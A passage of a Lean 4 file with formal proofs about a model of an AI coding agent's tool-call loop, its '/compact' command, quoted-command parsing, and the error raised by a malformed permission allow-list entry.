leaves the loop; a follow-up begins with an exchange with the model about the system
message and the conversation it is given; and the next directive of the same response is
attempted in the state the follow-up leaves. -/
theorem runToolCall_appends_one_message (env : Surroundings) (followup : Session → LoopEnd)
    (s : Session) (toolCall : ToolCall) (name : JsString) (rest : List ToolCall)
    (hname : toolCall.name.toDisplay = some name) :
    (∀ (result : Json) (w : World),
      executeToolCommand (env.handlers s.world) s.world toolCall (env.answer s.world toolCall)
          = (.returned result, w) →
        runToolCall env followup s toolCall
          = some (followup ⟨s.conversation ++ [toolResultMessage name result], w,
              s.events ++ [.execute toolCall]⟩)) ∧
    (∀ (t : Thrown) (w : World),
      executeToolCommand (env.handlers s.world) s.world toolCall (env.answer s.world toolCall)
          = (.thrown t, w) →
        runToolCall env followup s toolCall
          = some (followup ⟨s.conversation ++
              [toolFailureMessage name (t.message env.engineMessage)], w,
              s.events ++ [.execute toolCall]⟩)) ∧
    runToolCall env followup s toolCall ≠ none ∧
    (∀ (bound : Nat) (s1 : Session), ∃ later,
      (processFollowup env (bound + 1) s1).session.events
        = s1.events ++ .chat (systemMessage env.cwd :: s1.conversation) :: later) ∧
    (∀ s1 : Session, runToolCall env followup s toolCall = some (.finished s1) →
      runToolCalls env followup s (toolCall :: rest) = runToolCalls env followup s1 rest) := by
  refine ⟨?_, ?_, ?_, ?_, ?_⟩
  · intro result w h
    simp only [runToolCall, hname, h]
  · intro t w h
    simp only [runToolCall, hname, h]
  · unfold runToolCall
    rw [hname]
    simp only []
    cases executeToolCommand (env.handlers s.world) s.world toolCall
        (env.answer s.world toolCall) with
    | mk outcome w => cases outcome <;> simp
  · intro bound s1
    exact exchange_events env (processFollowup env bound) (processFollowup_events env bound) s1
  · intro s1 h
    simp only [runToolCalls, h]

/-- Witness of `runToolCall_appends_one_message`: the directive `LSTool` with the path
`.`, whose handler returns `["a.txt"]`. -/
theorem runToolCall_appends_one_message_witness :
    runToolCall ⟨u16 "/home/user/proj", fun _ _ => .ok [], fun _ _ => ⟨true, .none⟩,
          fun _ _ _ => .ok (.arr [.str (u16 "a.txt")]), fun _ => []⟩
        LoopEnd.finished ⟨[⟨u16 "user", u16 "list the files"⟩], ⟨[], none, [], []⟩, []⟩
        ⟨.str (u16 "LSTool"), .obj [(u16 "path", .str (u16 "."))]⟩
      = some (.finished
          ⟨[⟨u16 "user", u16 "list the files"⟩,
            ⟨u16 "user", u16 "Tool result for LSTool:\n```\n[\n  \"a.txt\"\n]\n```"⟩],
           ⟨[], none, [],
            [.invoke (u16 "LSTool") (.obj [(u16 "path", .str (u16 "."))])]⟩,
           [.execute ⟨.str (u16 "LSTool"), .obj [(u16 "path", .str (u16 "."))]⟩]⟩) :=
  (runToolCall_appends_one_message
    ⟨u16 "/home/user/proj", fun _ _ => .ok [], fun _ _ => ⟨true, .none⟩,
      fun _ _ _ => .ok (.arr [.str (u16 "a.txt")]), fun _ => []⟩
    LoopEnd.finished ⟨[⟨u16 "user", u16 "list the files"⟩], ⟨[], none, [], []⟩, []⟩
    ⟨.str (u16 "LSTool"), .obj [(u16 "path", .str (u16 "."))]⟩ (u16 "LSTool") [] rfl).1
    (.arr [.str (u16 "a.txt")])
    ⟨[], none, [], [.invoke (u16 "LSTool") (.obj [(u16 "path", .str (u16 "."))])]⟩ (by rfl)

/-! ### C28: the command `/compact` -/

/-- C28: for every conversation of `n` messages, `/compact` leaves the last `min n 10`
messages in their order: the result is the conversation without its first `n - min n 10`
messages, it has `min n 10` messages, it is a suffix of the conversation and equal to it
when `n ≤ 10`; and `/compact` applied to the result gives the result again. -/
theorem handleSlashCommand_compact (conversation : List Message) :
    handleSlashCommand (u16 "/compact") conversation
        = conversation.drop (conversation.length - min conversation.length 10) ∧
      (handleSlashCommand (u16 "/compact") conversation).length = min conversation.length 10 ∧
      handleSlashCommand (u16 "/compact") conversation <:+ conversation ∧
      (conversation.length ≤ 10 →
        handleSlashCommand (u16 "/compact") conversation = conversation) ∧
      handleSlashCommand (u16 "/compact") (handleSlashCommand (u16 "/compact") conversation)
        = handleSlashCommand (u16 "/compact") conversation := by
  have hrun : ∀ c : List Message, handleSlashCommand (u16 "/compact") c
      = if c.length > 10 then c.drop (c.length - 10) else c := by
    intro c
    have hsplit : splitOn 32 ((u16 "/compact").drop 1) = [u16 "compact"] := by rfl
    have hne : u16 "compact" ≠ u16 "clear" := by decide
    simp only [handleSlashCommand, hsplit, hne, if_false, if_true]
  by_cases hlen : conversation.length > 10
  · have hmin : min conversation.length 10 = 10 := by omega
    have hres : handleSlashCommand (u16 "/compact") conversation
        = conversation.drop (conversation.length - 10) := by
      rw [hrun, if_pos hlen]
    have hreslen : (conversation.drop (conversation.length - 10)).length = 10 := by
      rw [List.length_drop]; omega
    refine ⟨by rw [hres, hmin], by rw [hres, hreslen, hmin], ?_, fun h => by omega, ?_⟩
    · rw [hres]; exact List.drop_suffix _ _
    · rw [hres, hrun, if_neg (by omega)]
  · have hmin : min conversation.length 10 = conversation.length := by omega
    have hres : handleSlashCommand (u16 "/compact") conversation = conversation := by
      rw [hrun, if_neg hlen]
    refine ⟨by rw [hres, hmin]; simp, by rw [hres, hmin], ?_, fun _ => hres, ?_⟩
    · rw [hres]
    · rw [hres, hres]

/-! ### C29: quoted tokens -/

theorem foldl_parseCommandStep_inside (parts : List JsString) :
    ∀ (token current : JsString), 34 ∉ token → 92 ∉ token →
      token.foldl parseCommandStep ⟨parts, current, true, false⟩
        = ⟨parts, current ++ token, true, false⟩ := by
  intro token
  induction token with
  | nil => intro current _ _; simp
  | cons c cs ih =>
    intro current hq hb
    have hc1 : c ≠ 34 := fun e => hq (by simp [e])
    have hc2 : c ≠ 92 := fun e => hb (by simp [e])
    have hstep : parseCommandStep ⟨parts, current, true, false⟩ c
        = ⟨parts, current ++ [c], true, false⟩ := by
      simp [parseCommandStep, hc1, hc2]
    rw [List.foldl_cons, hstep,
      ih (current ++ [c]) (fun h => hq (List.mem_cons_of_mem _ h))
        (fun h => hb (List.mem_cons_of_mem _ h))]
    simp

theorem foldl_parseCommandStep_quoted (parts : List JsString) (token : JsString)
    (hq : 34 ∉ token) (hb : 92 ∉ token) :
    (quoted token).foldl parseCommandStep ⟨parts, [], false, false⟩
      = ⟨parts, token, false, false⟩ := by
  have hopen : parseCommandStep ⟨parts, [], false, false⟩ 34 = ⟨parts, [], true, false⟩ := by
    simp [parseCommandStep]
  have hclose : parseCommandStep ⟨parts, token, true, false⟩ 34 = ⟨parts, token, false, false⟩ := by
    simp [parseCommandStep]
  unfold quoted
  rw [List.foldl_cons, hopen, List.foldl_append,
    foldl_parseCommandStep_inside parts token [] hq hb]
  simp only [List.nil_append, List.foldl_cons, List.foldl_nil, hclose]

theorem foldl_parseCommandStep_tokens :
    ∀ (tokens parts : List JsString), tokens ≠ [] →
      (∀ t ∈ tokens, t ≠ [] ∧ 34 ∉ t ∧ 92 ∉ t) →
      ∃ last : JsString, last ≠ [] ∧
        parts ++ tokens = (parts ++ tokens).dropLast ++ [last] ∧
        (joinWith 32 (tokens.map quoted)).foldl parseCommandStep ⟨parts, [], false, false⟩
          = ⟨(parts ++ tokens).dropLast, last, false, false⟩ := by
  intro tokens
  induction tokens with
  | nil => intro _ h; exact absurd rfl h
  | cons t rest ih =>
    intro parts _ hall
    obtain ⟨htne, htq, htb⟩ := hall t (by simp)
    cases rest with
    | nil =>
      refine ⟨t, htne, by simp, ?_⟩
      simp only [List.map_cons, List.map_nil, joinWith]
      rw [foldl_parseCommandStep_quoted parts t htq htb]
      simp
    | cons u rest2 =>
      obtain ⟨last, hlast, hsplit, hrun⟩ := ih (parts ++ [t]) (by simp)
        (fun x hx => hall x (List.mem_cons_of_mem _ hx))
      have hspace : parseCommandStep ⟨parts, t, false, false⟩ 32
          = ⟨parts ++ [t], [], false, false⟩ := by
        simp [parseCommandStep, htne]
      refine ⟨last, hlast, by simpa using hsplit, ?_⟩
      simp only [List.map_cons, joinWith]
      rw [List.foldl_append, foldl_parseCommandStep_quoted parts t htq htb, List.foldl_cons,
        hspace]
      simp only [List.map_cons] at hrun
      rw [hrun]
      simp

/-- C29: for every non-empty list of tokens, each non-empty and without double quote and
backslash, `parseCommand` applied to the tokens, each between double quotes, joined by
single spaces, returns the first token as `command` and the other tokens, in order, as
`args`. -/
theorem parseCommand_quoted_tokens (first : JsString) (others : List JsString)
    (htokens : ∀ t ∈ first :: others, t ≠ [] ∧ 34 ∉ t ∧ 92 ∉ t) :
    parseCommand (joinWith 32 ((first :: others).map quoted)) = (first, others) := by
  obtain ⟨last, hlast, hsplit, hrun⟩ :=
    foldl_parseCommandStep_tokens (first :: others) [] (by simp) htokens
  unfold parseCommand
  rw [hrun]
  simp only [hlast, ne_eq, not_false_eq_true, if_true]
  rw [← hsplit]
  simp

/-- Witness of `parseCommand_quoted_tokens`: the command `git` with the arguments
`commit`, `-m` and `first version`. -/
theorem parseCommand_quoted_tokens_witness :
    parseCommand (u16 "\"git\" \"commit\" \"-m\" \"first version\"")
      = (u16 "git", [u16 "commit", u16 "-m", u16 "first version"]) :=
  parseCommand_quoted_tokens (u16 "git") [u16 "commit", u16 "-m", u16 "first version"]
    (by decide)

/-! ### C30: an allow-list entry that does not compile -/

theorem isAlreadyAllowed_append (toolSignature : JsString) (later : List JsString) :
    ∀ earlier : List JsString, isAlreadyAllowed toolSignature earlier = .returned false →
      isAlreadyAllowed toolSignature (earlier ++ later) = isAlreadyAllowed toolSignature later := by
  intro earlier
  induction earlier with
  | nil => intro _; rfl
  | cons a rest ih =>
    intro h
    rw [List.cons_append]
    by_cases hstar : includes a [42] = true
    · simp only [isAlreadyAllowed, hstar, if_true] at h ⊢
      cases hc : RegExp.compile (94 :: (wildcardToRegexSource a ++ [36])) with
      | ok r =>
        rw [hc] at h
        simp only [] at h ⊢
        by_cases ht : r.test toolSignature = true
        · rw [if_pos ht] at h; simp at h
        · rw [if_neg ht] at h ⊢
          exact ih h
      | syntaxError => rw [hc] at h; simp at h
      | unsupported => rw [hc] at h; simp at h
    · simp only [isAlreadyAllowed, hstar, if_false] at h ⊢
      by_cases he : a = toolSignature
      · rw [if_pos he] at h; simp at h
      · rw [if_neg he] at h ⊢
        exact ih h

/-- C30: for a call of a tool that requires permission and an allow-list in which the
entries before `bad` do not allow the signature, where `bad` contains `*` and the pattern
made from it (`*` replaced by `.*`, between `^` and `$`) is not a regular expression,
`executeToolCommand` fails with the `SyntaxError` of `new RegExp`: the log gains the read
of the allow-list only (no prompt, no handler call), and the error is not an `Error` with
a message, so it is neither the permission-denied error nor the wrapped
`Error executing` error. -/
theorem executeToolCommand_pattern_syntax_error
    (handlers : JsString → Json → Except JsString Json) (w : World) (toolCall : ToolCall)
    (answer : Answer) (name bad : JsString) (earlier later : List JsString)
    (hname : toolCall.name.toDisplay = some name)
    (hreg : registryLookup name = .tool true)
    (hlist : getConfig w = earlier ++ bad :: later)
    (hearlier : isAlreadyAllowed (toolSignature name toolCall.arguments) earlier = .returned false)
    (hstar : includes bad [42] = true)
    (hbad : RegExp.compile (94 :: (wildcardToRegexSource bad ++ [36])) = .syntaxError) :
    executeToolCommand handlers w toolCall answer
        = (.thrown (.regexSyntaxError (94 :: (wildcardToRegexSource bad ++ [36]))),
            { w with trace := w.trace ++ [.readAllowList] }) ∧
      ∀ message : JsString,
        (executeToolCommand handlers w toolCall answer).1 ≠ .thrown (.error message) := by
  have hcfg : getConfig { w with trace := w.trace ++ [Event.readAllowList] }
      = earlier ++ bad :: later := hlist
  have hall : isAlreadyAllowed (toolSignature name toolCall.arguments) (earlier ++ bad :: later)
      = .thrown (.regexSyntaxError (94 :: (wildcardToRegexSource bad ++ [36]))) := by
    rw [isAlreadyAllowed_append _ _ earlier hearlier]
    simp only [isAlreadyAllowed, hstar, if_true, hbad]
  have hrun : executeToolCommand handlers w toolCall answer
      = (.thrown (.regexSyntaxError (94 :: (wildcardToRegexSource bad ++ [36]))),
          { w with trace := w.trace ++ [.readAllowList] }) := by
    simp only [executeToolCommand, hname, hreg, hcfg, hall]
  refine ⟨hrun, ?_⟩
  intro message
  rw [hrun]
  simp

/-- Witness of `executeToolCommand_pattern_syntax_error`: the entry `BashTool(*`, whose
pattern `^BashTool(.*$` has a group that is not closed. -/
theorem executeToolCommand_pattern_syntax_error_witness :
    executeToolCommand (fun _ _ => .ok .null) ⟨[], none, [u16 "BashTool(*"], []⟩
        ⟨.str (u16 "BashTool"), .obj [(u16 "command", .str (u16 "ls"))]⟩ ⟨true, .none⟩
      = (.thrown (.regexSyntaxError (u16 "^BashTool(.*$")),
          ⟨[], none, [u16 "BashTool(*"], [.readAllowList]⟩) :=
  (executeToolCommand_pattern_syntax_error (fun _ _ => .ok .null)
    ⟨[], none, [u16 "BashTool(*"], []⟩
    ⟨.str (u16 "BashTool"), .obj [(u16 "command", .str (u16 "ls"))]⟩ ⟨true, .none⟩
    (u16 "BashTool") (u16 "BashTool(*") [] [] rfl rfl rfl rfl (by rfl) (by rfl)).1

end OllamaCode
